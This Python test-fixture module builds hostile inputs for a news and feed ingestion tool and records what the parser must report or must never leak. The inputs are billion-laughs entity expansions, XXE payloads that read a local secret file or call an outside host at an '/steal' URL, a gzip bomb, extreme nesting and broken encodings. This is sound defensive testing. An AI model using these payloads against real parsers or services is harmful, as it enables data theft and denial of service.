"""Hostile inputs, built at test time in a temporary folder (nothing large is committed).

Each builder writes its input and returns a :class:`Case`: the paths to read, the size cap to
read them with, and what a user must see (an article, a one-line problem, or either).
"""

from __future__ import annotations

import gzip
import os
import random
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from ingest.builders import ENTRIES, archive_records, page_html, rss_feed, warc_bytes

MB = 1024 * 1024
DEFAULT_CAP = 20 * MB

#: A short, ordinary report every batch case carries, to show one bad document never sinks the batch.
GOOD_REPORT = (
    "The county library reopened its east wing on Friday after a six-month renovation that added a "
    "reading garden and forty study desks, the library board said. Visitors queued from eight in the "
    "morning, and the board said 1,200 people came through the doors before noon."
)


@dataclass(frozen=True)
class Case:
    paths: list[str]
    expect: str  # "article", "problem" or "either"
    max_bytes: int = DEFAULT_CAP
    bytes_paths: bool = False
    input_bytes: int = 0  # size of the hostile input, for the memory budget
    problem_words: tuple[str, ...] = ()  # each must appear in some problem line
    forbidden: tuple[str, ...] = field(default=())  # must not appear in any article text


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def _html(body: str) -> bytes:
    return f"<!DOCTYPE html><html><head><title>t</title></head><body>{body}</body></html>".encode()


def billion_laughs_feed(d: Path) -> Case:
    ents = ['<!ENTITY lol "lol">'] + [f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 or "")) * 10}">' for i in range(1, 10)]
    data = f'<?xml version="1.0"?><!DOCTYPE rss [{"".join(ents)}]><rss version="2.0"><channel><item>' \
           "<title>&lol9;</title><description>&lol9;</description></item></channel></rss>"
    p = _write(d / "laughs.rss", data.encode())
    return Case([str(p)], "problem", input_bytes=p.stat().st_size, problem_words=("ENTITY",))


def billion_laughs_html(d: Path) -> Case:
    ents = ['<!ENTITY lol "lol">'] + [f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 or "")) * 10}">' for i in range(1, 10)]
    data = f'<!DOCTYPE html [{"".join(ents)}]><html><body><p>&lol9;</p><p>{GOOD_REPORT}</p></body></html>'
    p = _write(d / "laughs.html", data.encode())
    return Case([str(p)], "either", input_bytes=p.stat().st_size, forbidden=("lollollol",))


def xxe_file(d: Path) -> Case:
    secret = _write(d / "secret.txt", b"PAYROLL-SECRET-7731")
    feed = f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file://{secret}">]>' \
           "<rss version='2.0'><channel><item><title>t</title><description>&x;</description></item></channel></rss>"
    page = f'<!DOCTYPE html [<!ENTITY x SYSTEM "file://{secret}">]><html><body><p>&x;</p><p>{GOOD_REPORT}</p>' \
           "</body></html>"
    a, b = _write(d / "xxe.rss", feed.encode()), _write(d / "xxe.html", page.encode())
    return Case([str(a), str(b)], "either", input_bytes=len(feed) + len(page), forbidden=("PAYROLL-SECRET",))


def xxe_http(d: Path) -> Case:
    feed = '<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://198.51.100.7/evil.dtd" [' \
           '<!ENTITY x SYSTEM "http://198.51.100.7/steal">]><rss version="2.0"><channel><item>' \
           "<title>t</title><description>&x;</description></item></channel></rss>"
    page = '<!DOCTYPE html SYSTEM "http://198.51.100.7/evil.dtd"><html><body>' \
           f'<img src="http://198.51.100.7/pixel"><p>{GOOD_REPORT}</p></body></html>'
    a, b = _write(d / "xxe-http.rss", feed.encode()), _write(d / "xxe-http.html", page.encode())
    return Case([str(a), str(b)], "either", input_bytes=len(feed) + len(page))


def deep_nesting(d: Path) -> Case:
    depth = 100_000
    p = _write(d / "deep.html", _html("<div>" * depth + f"<p>{GOOD_REPORT}</p>" + "</div>" * depth))
    return Case([str(p)], "either", input_bytes=p.stat().st_size)


def deep_nesting_feed(d: Path) -> Case:
    depth = 100_000
    data = '<?xml version="1.0"?><rss version="2.0"><channel><item><title>t</title><description>' + \
           "<x>" * depth + "</x>" * depth + "</description></item></channel></rss>"
    p = _write(d / "deep.rss", data.encode())
    return Case([str(p)], "either", input_bytes=p.stat().st_size)


def _big_page(d: Path, size: int) -> Path:
    para = f"<p>{GOOD_REPORT}</p>\n"
    return _write(d / "huge.html", _html(para * (size // len(para))))


def page_50mb_default_cap(d: Path) -> Case:
    p = _big_page(d, 50 * MB)
    return Case([str(p)], "problem", input_bytes=p.stat().st_size, problem_words=("size cap", "--max-bytes"))


def page_50mb_raised_cap(d: Path) -> Case:
    p = _big_page(d, 50 * MB)
    return Case([str(p)], "either", max_bytes=64 * MB, input_bytes=p.stat().st_size)


def adoption_agency(d: Path) -> Case:
    body = "<b i>" * 10_000 + "<i i>" * 10_000 + "x</b>" * 10_000
    p = _write(d / "adoption.html", _html(body + f"<p>{GOOD_REPORT}</p>"))
    return Case([str(p)], "either", input_bytes=p.stat().st_size)


def unterminated_markup(d: Path) -> Case:
    p = _write(d / "bang.html", _html("<!" * 1_000_000))
    return Case([str(p)], "either", input_bytes=p.stat().st_size)


def gzip_bomb(d: Path) -> Case:
    inflated = _html(" " * (30 * MB))
    packed = gzip.compress(inflated, 9)
    assert len(inflated) // len(packed) >= 1000
    p = _write(d / "bomb.html.gz", packed)
    return Case([str(p)], "problem", input_bytes=len(packed), problem_words=("decompresses to more than",))


def binary_and_nul(d: Path) -> Case:
    rng = random.Random(7)
    noise = _write(d / "noise.txt", bytes(rng.randrange(256) for _ in range(200_000)))
    nul = _write(d / "nul.html", _html(f"<p>{GOOD_REPORT}</p>").replace(b"the", b"t\x00he"))
    png = _write(d / "photo.html", b"\x89PNG\r\n\x1a\n" + bytes(rng.randrange(256) for _ in range(5000)))
    return Case([str(noise), str(nul), str(png)], "either", input_bytes=205_000,
                problem_words=("PNG image",))


def lying_charset(d: Path) -> Case:
    text = "Der Stadtrat beschloss am Dienstag die Öffnung der Brücke für Fußgänger; Kosten: 3,4 Mio. €."
    lies_utf8 = _write(d / "lies-utf8.html",
                       b'<html><head><meta charset="utf-8"></head><body><p>' + text.encode("cp1252") + b"</p></body></html>")
    lies_sjis = _write(d / "lies-sjis.html",
                       b'<html><head><meta charset="shift_jis"></head><body><p>' + text.encode() + b"</p></body></html>")
    lies_bogus = _write(d / "lies-bogus.html",
                        b'<html><head><meta charset="x-no-such-thing"></head><body><p>' + text.encode() + b"</p></body></html>")
    return Case([str(lies_utf8), str(lies_sjis), str(lies_bogus)], "article", input_bytes=1000)


def empty_file(d: Path) -> Case:
    p = _write(d / "empty.txt", b"")
    blank = _write(d / "blank.html", b"   \n\t\n")
    return Case([str(p), str(blank)], "problem", problem_words=("empty",))


def non_utf8_name(d: Path) -> Case:
    name = os.fsencode(str(d)) + b"/rapport-\xe9t\xe9.txt"
    with open(name, "wb") as fh:
        fh.write(GOOD_REPORT.encode())
    return Case([os.fsdecode(name)], "article", bytes_paths=True, input_bytes=len(GOOD_REPORT))


def truncated_feed(d: Path) -> Case:
    data = rss_feed()
    p = _write(d / "cut.rss", data[: data.rindex(b"<item>") + 60])
    return Case([str(p)], "either", input_bytes=p.stat().st_size, problem_words=("damaged",))


def truncated_warc(d: Path) -> Case:
    whole = warc_bytes(archive_records(), gz=True)
    p = _write(d / "cut.warc.gz", whole[:-150])
    return Case([str(p)], "either", input_bytes=p.stat().st_size, problem_words=("truncated",))


CASES: dict[str, Callable[[Path], Case]] = {
    "billion-laughs-feed": billion_laughs_feed,
    "billion-laughs-html": billion_laughs_html,
    "xxe-file": xxe_file,
    "xxe-http": xxe_http,
    "deep-nesting-html": deep_nesting,
    "deep-nesting-feed": deep_nesting_feed,
    "page-50mb-default-cap": page_50mb_default_cap,
    "adoption-agency": adoption_agency,
    "unterminated-markup": unterminated_markup,
    "gzip-bomb": gzip_bomb,
    "binary-and-nul": binary_and_nul,
    "lying-charset": lying_charset,
    "empty-file": empty_file,
    "non-utf8-file-name": non_utf8_name,
    "truncated-feed": truncated_feed,
    "truncated-warc": truncated_warc,
}

__all__ = ["CASES", "ENTRIES", "GOOD_REPORT", "Case", "page_50mb_raised_cap", "page_html"]
